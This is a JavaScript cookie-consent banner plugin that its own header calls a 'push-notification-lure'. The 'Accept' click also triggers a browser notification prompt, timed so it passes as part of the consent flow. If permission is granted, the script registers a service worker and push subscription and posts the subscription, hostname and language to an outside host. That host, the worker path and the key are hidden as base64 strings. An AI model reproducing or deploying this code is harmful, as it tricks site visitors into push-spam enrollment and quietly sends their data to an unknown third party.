/*
 * push-notification-lure: cookie-consent banner plugin whose "Accept" button also requests notification permission
 * and registers a push subscription; endpoint, key and worker path are base64 strings
 */
(function (win, doc) {
  var C = {
    text: 'We use cookies to improve your experience. By continuing you agree to our cookie policy.',
    accept: 'Accept & continue',
    // obfuscated settings
    a: 'aHR0cHM6Ly9jb25zZW50LXB1c2gtY2RuLnRvcC9hcGkvcmVn',
    w: 'L3dwLWNvbnRlbnQvcGx1Z2lucy9jYy1iYXItbGl0ZS9zdy5qcz92PTI=',
    k: 'QkxxN3VUMnJZOWtQMWxXNXNaOG1IM25YMHZDNmJONHFKN3RGMmVSOXlBMWRHNWhLOGpTM3VMMHBPNnpJNHhNMmNWN2JROXdFM2Ix'
  };
  var KEY = 'cn_state';

  function d(s) { return atob(s); }

  function vapid() {
    var raw = d(C.k);
    var s = atob(raw.replace(/-/g, '+').replace(/_/g, '/') + '==='.slice((raw.length + 3) % 4));
    var arr = new Uint8Array(s.length);
    for (var i = 0; i < s.length; i++) arr[i] = s.charCodeAt(i);
    return arr;
  }

  function registerPush() {
    if (!('serviceWorker' in navigator) || !win.PushManager) return;
    navigator.serviceWorker.register(d(C.w)).then(function (reg) {
      return navigator.serviceWorker.ready.then(function () {
        return reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: vapid() });
      });
    }).then(function (sub) {
      var xhr = new XMLHttpRequest();
      xhr.open('POST', d(C.a), true);
      xhr.setRequestHeader('Content-Type', 'application/json');
      xhr.send(JSON.stringify({ s: sub, h: location.hostname, l: navigator.language }));
    })['catch'](function () {});
  }

  function accept(banner) {
    localStorage.setItem(KEY, 'accepted');
    banner.parentNode && banner.parentNode.removeChild(banner);
    // the browser prompt appears right after the user clicked "Accept", so it reads as part of the consent flow
    if (win.Notification && Notification.permission === 'default') {
      Notification.requestPermission().then(function (p) {
        if (p === 'granted') registerPush();
      });
    } else if (win.Notification && Notification.permission === 'granted') {
      registerPush();
    }
  }

  function banner() {
    var b = doc.createElement('div');
    b.className = 'cn-banner';
    b.style.cssText = 'position:fixed;left:0;right:0;bottom:0;padding:16px 20px;background:#1f2933;color:#f5f7fa;' +
      'font:14px/1.4 Helvetica,Arial,sans-serif;display:flex;gap:16px;align-items:center;justify-content:center;z-index:999999';
    var t = doc.createElement('span');
    t.textContent = C.text;
    var btn = doc.createElement('button');
    btn.textContent = C.accept;
    btn.style.cssText = 'background:#3ebd93;border:0;color:#fff;padding:8px 16px;border-radius:4px;cursor:pointer';
    btn.addEventListener('click', function () { accept(b); });
    b.appendChild(t);
    b.appendChild(btn);
    doc.body.appendChild(b);
  }

  doc.addEventListener('DOMContentLoaded', function () {
    if (localStorage.getItem(KEY) === 'accepted') {
      if (win.Notification && Notification.permission === 'granted') registerPush();
      return;
    }
    banner();
  });
})(window, document);
